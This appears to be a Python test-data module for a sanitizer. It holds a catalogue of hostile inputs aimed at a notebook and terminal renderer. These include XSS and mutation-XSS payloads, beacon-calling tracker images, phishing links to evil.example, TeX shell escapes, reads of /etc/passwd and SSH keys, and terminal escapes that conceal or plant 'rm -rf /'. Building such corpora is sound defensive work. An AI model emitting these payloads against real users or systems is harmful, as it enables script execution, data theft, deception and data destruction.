"""Hostile answers as data: what a model, or whoever writes its context, might send to a notebook or a terminal.

`ANSWERS` are written by hand, one trick each; `crossed` multiplies tags, handlers and encodings. The address
``{beacon}`` stands for a listener of the test: whoever asks it has been tricked. `armed` fills it in.
"""

from dataclasses import dataclass, replace
from itertools import cycle, product

BEACON = "{beacon}"


@dataclass(frozen=True)
class Hostile:
    """One answer; `kind` groups those that need the same kind of look."""

    id: str
    text: str
    kind: str


def arm(answers: list[Hostile], beacon: str) -> list[Hostile]:
    """`answers` with the address `beacon`, such as ``http://127.0.0.1:5000``, in every place for it."""
    return [replace(answer, text=answer.text.replace(BEACON, beacon)) for answer in answers]


def _group(kind: str, texts: dict[str, str]) -> list[Hostile]:
    return [Hostile(f"{kind}-{name}", text, kind) for name, text in texts.items()]


# What a payload does when it runs: the browser test looks for this mark and listens at the beacon.
RUN = "window.__pwned=1;fetch('{beacon}/ran')"

ANSWERS: list[Hostile] = [
    *_group(
        "script",
        {
            "plain": f"<script>{RUN}</script>",
            "inline": f"An answer <script>{RUN}</script> goes on.",
            "src": "<script src={beacon}/s.js></script>",
            "module": f"<script type=module>{RUN}</script>",
            "case": f"<ScRiPt>{RUN}</sCrIpT>",
            "slash": f"<script/x>{RUN}</script/>",
            "split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
            "newline": f"<script\n>\n\n{RUN}\n\n</script\n>",
            "unclosed": f"<script>{RUN}",
            "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
            "numeric": f"&#60;script&#62;{RUN}&#x3c;/script&#x3e;",
            "nul": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
            "in-table": f"| a |\n|---|\n| <script>{RUN}</script> |",
            "in-list": f"- <script>{RUN}</script>\n  - <script>{RUN}</script>",
            "in-heading": f"# <script>{RUN}</script>",
            "break-out": f"</div></div></body></html><script>{RUN}</script>",
            "break-out-pre": f"```\n</code></pre></div><script>{RUN}</script>\n```",
            "break-out-span": f"$x</span><script>{RUN}</script>$",
            "comment": f"<!--><script>{RUN}</script>-->",
            "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
            "template-literal": "${window.__pwned=1} {{constructor.constructor('window.__pwned=1')()}}",
        },
    ),
    *_group(
        "handler",
        {
            "img": f'<img src=x onerror="{RUN}">',
            "svg": f'<svg onload="{RUN}"></svg>',
            "svg-script": f"<svg><script>{RUN}</script></svg>",
            "svg-animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
            "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
            "details": f'<details open ontoggle="{RUN}">x</details>',
            "focus": f'<input autofocus onfocus="{RUN}">',
            "body": f'<body onload="{RUN}">',
            "style": f'<b style="animation-name:x" onanimationstart="{RUN}">x</b>',
            "video": f'<video><source onerror="{RUN}"></video>',
            "marquee": f'<marquee onstart="{RUN}">x</marquee>',
            "fence-language": f'```py"onmouseover="{RUN}"x="\nx = 1\n```',
            "fence-tag": f"```<img/src=x/onerror={RUN}>\nx = 1\n```",
            "link-title": f"""[x](https://a.example "' onmouseover='{RUN}' x='")""",
            "link-quote": f'[x](https://a.example/"onmouseover="{RUN})',
            "image-alt": f'![" onerror="{RUN}](https://a.example/x.png)',
            "column": f'| a |\n|:-:|\n| " onclick="{RUN} |',
            "command-linker": '<button data-commandlinker-command="notebook:run-all-cells" '
            """data-commandlinker-args='{"x":1}'>Read more</button>""",
        },
    ),
    *_group(
        "link",
        {
            "javascript": "[x](javascript:window.__pwned=1)",
            "case": "[x](JaVaScRiPt:window.__pwned=1)",
            "entity": "[x](&#106;avascript:window.__pwned=1)",
            "colon-entity": "[x](javascript&colon;window.__pwned=1)",
            "tab": "[x](java&Tab;script:window.__pwned=1)",
            "newline": "[x](java&#10;script:window.__pwned=1)",
            "control": "[x](<\x01javascript:window.__pwned=1>)",
            "percent": "[x](javascript%3Awindow.__pwned=1)",
            "vbscript": "[x](vbscript:msgbox)",
            "data": "[x](data:text/html,<script>alert(1)</script>)",
            "data-base64": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "data-image": "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "file": "[x](file:///etc/hostname)",
            "blob": "[x](blob:http://127.0.0.1/1)",
            "relative": "[x](/api/shutdown) [y](../secret.ipynb) [z](?token=1) [f](#top)",
            "scheme-relative": "[x](//evil.example/) ![x](//evil.example/x.png)",
            "autolink": "<javascript:window.__pwned=1>",
            "reference": "[x][1]\n\n[1]: javascript:window.__pwned=1",
            "userinfo": "[https://bank.example](https://bank.example@evil.example/)",
            "userinfo-port": "[x](https://bank.example:443@evil.example/)",
            "backslash": "[x](https://bank.example\\@evil.example/)",
            "no-slashes": "[x](https:evil.example) [y](https:///evil.example)",
            "percent-host": "[x](https://%65vil.example/)",
            "other-text": "[https://bank.example](https://evil.example/?q=secret)",
            "homograph": "[https://аррӏе.example](https://аррӏе.example) <https://аррӏе.example>",
            "bidi": "[moc.elpmaxe.knab\u202e](https://evil.example)",
            "bidi-entity": "[bank&#x202e;elpmaxe](https://evil.example)",
            "nested": "[a [b](javascript:window.__pwned=1) c](https://evil.example)",
            "image-in-link": "[![x]({beacon}/i.png)](javascript:window.__pwned=1)",
            "html": '<a href="javascript:window.__pwned=1">x</a>',
        },
    ),
    *_group(
        "tracker",
        {
            "image": "![chart]({beacon}/i.png?q=secret)",
            "image-reference": "![chart][1]\n\n[1]: {beacon}/ref.png",
            "image-collapsed": "![chart][]\n\n[chart]: <{beacon}/ref.png> 'title'",
            "image-title": "![x]({beacon}/t.png 'title\" onload=\"x')",
            "image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "image-in-table": "| a |\n|---|\n| ![x]({beacon}/c.png) |",
            "img": "<img src={beacon}/i.png>",
            "srcset": '<img srcset="{beacon}/a.png 1x"><picture><source srcset={beacon}/b.png></picture>',
            "autolink-image": "<{beacon}/auto.png>",
            "bare-url": "{beacon}/bare.png",
            "audio": "<audio src={beacon}/a.mp3 autoplay></audio><video poster={beacon}/p.png></video>",
            "style": "<style>@import '{beacon}/s.css'; body{background:url({beacon}/b.png)}</style>",
            "style-attribute": '<div style="background-image:url({beacon}/b.png)">x</div>',
            "background": "<table background={beacon}/b.png><tr><td background={beacon}/c.png>x</table>",
            "link": "<link rel=stylesheet href={beacon}/l.css><link rel=prefetch href={beacon}/p>",
            "meta": "<meta http-equiv=refresh content='0;url={beacon}/m'>",
            "base": "<base href={beacon}/><img src=x.png>",
            "iframe": "<iframe src={beacon}/f></iframe><iframe srcdoc='<img src={beacon}/g>'></iframe>",
            "object": "<object data={beacon}/o></object><embed src={beacon}/e>",
            "form": "<form action={beacon}/f><button>Go</button></form><input type=image src={beacon}/i>",
            "svg": "<svg><image href={beacon}/i.png /><feImage href={beacon}/j.png /></svg>",
            "html-in-fence": "```html\n<img src={beacon}/i.png><script src={beacon}/s.js></script>\n```",
            "svg-in-fence": "```svg\n<svg><image href={beacon}/i.png /></svg>\n```",
            "highlighted-url": "```css\nbody { background: url({beacon}/b.png) }\n```",
        },
    ),
    *_group(
        "mutation",
        {
            "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
            "title": f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
            "textarea": f"<textarea><a title='</textarea><img src=x onerror={RUN}>'></textarea>",
            "style": f"<style><a title='</style><img src=x onerror={RUN}>'></style>",
            "math": "<math><mtext><table><mglyph><style><!--</style>"
            f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
            "form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
            "svg-style": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
            "select": f"<select><template><img src=x onerror={RUN}></template></select>",
            "xmp": f"<xmp></xmp><img src=x onerror={RUN}></xmp><plaintext>",
            "mathml-link": "<math><maction actiontype=x xlink:href=javascript:alert(1)>x</maction></math>",
        },
    ),
    *_group(
        "tex",
        {
            "href": r"$\href{javascript:window.__pwned=1}{click}$",
            "href-display": r"$$\href{javascript:window.__pwned=1}{\text{click}}$$",
            "href-paren": r"\(\href{javascript:window.__pwned=1}{x}\) \[\url{javascript:window.__pwned=1}\]",
            "environment": "\\begin{align}\n\\href{javascript:window.__pwned=1}{x}\n\\end{align}",
            "nested": r"$\hr\hrefef{javascript:window.__pwned=1}{x}$",
            "double-backslash": r"$\\href{javascript:window.__pwned=1}{x}$",
            "verb": r"$\verb\a\\href{javascript:window.__pwned=1}{x}$",
            "space": "$\\href {javascript:window.__pwned=1}{x}$",
            "comment": "$$\\%\n\\href%\n{javascript:window.__pwned=1}{x}$$",
            "require": r"$\require{html}\style{background:url({beacon}/tex)}{x}$",
            "class": r"$\class{jp-Dialog}{x} \cssId{main}{y} \data{commandlinker-command=x}{z}$",
            "bbox": r"$\bbox[background:url({beacon}/bbox)]{x}$",
            "token": r"$\mmlToken{mi}[href='javascript:window.__pwned=1' style='background:url({beacon}/t)']{x}$",
            "define": r"$\def\h{\href}\h{javascript:window.__pwned=1}{x}$",
            "newcommand": r"$\newcommand{\frac}[2]{\href{javascript:window.__pwned=1}{#1}} \frac12$",
            "let": r"$\let\h\href \h{javascript:window.__pwned=1}{x}$",
            "csname": r"$\csname hr\string ef\endcsname{javascript:window.__pwned=1}{x}$",
            "picture": r"$$\includegraphics{{beacon}/tex.png}$$",
            "unicode": r"$\unicode[x;background:url({beacon}/u)]{65}$",
            "unicode-in-text": r"$\text{a \unicode[x;background:url({beacon}/ut)]{65}}$",
            "colour": r"$\color{red;background:url({beacon}/c)}{x} \colorbox{url({beacon}/d)}{y}$",
            "enclose": r"$\enclose[mathcolor='x;background:url({beacon}/e)']{circle}{x}$",
            "reference": r"$$x \tag{1}\label{a} \ref{a} \eqref{a}$$",
            "toggle": r"$\toggle{a}{\href{javascript:window.__pwned=1}{b}}\endtoggle \texttip{a}{b}$",
            "html": r"$x<img src=x onerror=window.__pwned=1>$",
            "katex": r"$\htmlStyle{background:url({beacon}/k)}{x} \htmlData{a=b}{x}$",
            "chemistry": r"$\ce{\hr ef{javascript:window.__pwned=1}{x}}$",
            "write": r"$$\immediate\write18{touch /tmp/pwned} \input{/etc/passwd}$$",
        },
    ),
    *_group(
        "source",
        {
            "path": "/etc/hostname",
            "passwd": "/etc/passwd",
            "home": "~/.ssh/id_rsa",
            "dot": "README.md",
            "url": "{beacon}/whole-answer",
            "file-url": "file:///etc/hostname",
            "svg-document": f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>',
        },
    ),
    *_group(
        "terminal",
        {
            "colour": "\x1b[31mred\x1b[0m",
            "clear": "\x1b[2J\x1b[H\x1bc",
            "erase-line": "safe\x1b[2K\x1b[1Grm -rf /",
            "carriage-return": "rm -rf / \recho hello",
            "backspace": "rm\b\bls",
            "link": "\x1b]8;;http://evil.example\x1b\\bank\x1b]8;;\x1b\\",
            "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
            "title": "\x1b]0;owned\x07\x1b[21t",
            "mouse": "\x1b[?1000h\x1b[?1049h\x1b[?2004l",
            "dcs": '\x1bP$q"p\x1b\\\x1b_payload\x1b\\\x1b^x\x1b\\',
            "c1-csi": "\x9b31mred\x9d0;t\x9c\x90x\x9c",
            "nel": "a\x85b\u2028c\u2029d\x0be\x0cf",
            "bell": "\x07" * 20,
            "bidi": "access = \u202e\u2066// check\u2069 \u2066True\u2069\u202c",
            "marks": "\u200eleft\u200fright\u061carabic",
            "zero-width": "pass\u200bword \u2060joined\ufeff",
            "tags": "hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
            "surrogate": "\ud83d \udc00 \ud800",
            "delete": "abc\x7f\x7f\x00",
            "entities": "&#27;[31m &#x9b;31m &#x202e;abc &#0;",
        },
    ),
]

_TAGS = ("img src=x", "svg", "body", "details open", "iframe src=x", "video src=x", "input autofocus", "a href=x")
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onanimationstart")
_SEPARATORS = (" ", "/", "\t", "\n", "\x0c")
_PLACES = (
    "{}",
    "- {}",
    "> {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "**{}**",
    "[{}](https://a.example)",
    "`{}",
    "${}$",
)


def combine() -> list[Hostile]:
    """Tags × handlers × (quoted, bare, entity-encoded, upper case), spread over separators and places."""
    separators, places = cycle(_SEPARATORS), cycle(_PLACES)
    spellings = {
        "quoted": lambda handler: f'{handler}="{RUN}"',
        "bare": lambda handler: f"{handler}=window.__pwned=1",
        "entities": lambda handler: handler + "=" + "".join(f"&#{ord(letter)};" for letter in "alert(1)"),
        "upper": lambda handler: f"{handler.upper()}='{RUN}'",
    }
    return [
        Hostile(
            f"crossed-{tag.split()[0]}-{handler}-{name}",
            next(places).replace("{}", f"<{tag}{next(separators)}{spelling(handler)}>"),
            "crossed",
        )
        for tag, handler, (name, spelling) in product(_TAGS, _HANDLERS, spellings.items())
    ]
